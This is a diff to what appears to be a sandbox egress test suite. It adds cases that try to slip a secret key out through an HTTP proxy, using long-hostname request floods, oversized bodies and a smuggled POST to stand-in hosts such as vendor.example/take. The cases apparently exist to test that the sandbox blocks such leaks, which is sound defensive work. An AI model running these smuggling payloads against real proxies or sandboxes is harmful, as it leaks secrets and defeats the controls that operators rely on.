@@ -262,6 +262,20 @@ const POST_HEAD = 'POST / HTTP/1.1\\r\\nContent-Length: 2048\\r\\n';
 
 /** How the key is sent on a connection that carries a request like any other too. */
 const BESIDE_REQUESTS: Record<string, string> = {
+  'behind answers that nobody reads': python(
+    'import os, socket, time, urllib.parse',
+    READ_KEY,
+    'proxy = urllib.parse.urlsplit(os.environ["http_proxy"])',
+    's = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048); s.setsockopt(6, 2, 536)',
+    's.connect((proxy.hostname, proxy.port))',
+    'base = "http://" + ".".join(["a" * 60] * 110) + ".vendor.example"',
+    'for i in range(95): s.sendall(f"GET {base}/ HTTP/1.1\\r\\nHost: h\\r\\n\\r\\n".encode()); time.sleep(0.02)',
+    'time.sleep(0.5)',
+    's.sendall(f"POST {base}/up HTTP/1.1\\r\\nHost: h\\r\\nContent-Length: 200000\\r\\n\\r\\n".encode())',
+    's.sendall(b"x" * 200000)',
+    's.sendall(b"POST http://vendor.example/take HTTP/1.1\\r\\nHost: vendor.example\\r\\nContent-Length: 40\\r\\n\\r\\n" + key)',
+    'time.sleep(0.3)',
+  ),
   'after a thousand questions for the name of the sandbox': python(
     'import socket, struct',
     READ_KEY,
@@ -416,6 +430,10 @@ const TAKE = 'POST http://vendor.example/take HTTP/1.1\\r\\nHost: vendor.example
 
 /** How a host is asked on a connection on which one that may be asked is asked too. */
 const BESIDE_DOCS: Record<string, string> = {
+  'behind a body that is longer than anything that is kept': throughProxy(
+    'b"POST http://docs.example/up HTTP/1.1\\r\\nHost: docs.example\\r\\nContent-Length: 8800000\\r\\n\\r\\n"',
+    `b"x" * 8800000 + b"${TAKE}Content-Length: 3\\r\\n\\r\\nkey"`,
+  ),
   'by a request that expects something': throughProxy(
     `b"${TAKE}Expect: x\\r\\nContent-Length: 3\\r\\n\\r\\nkey"`,
     `b"${ASK_DOCS}\\r\\n"`,
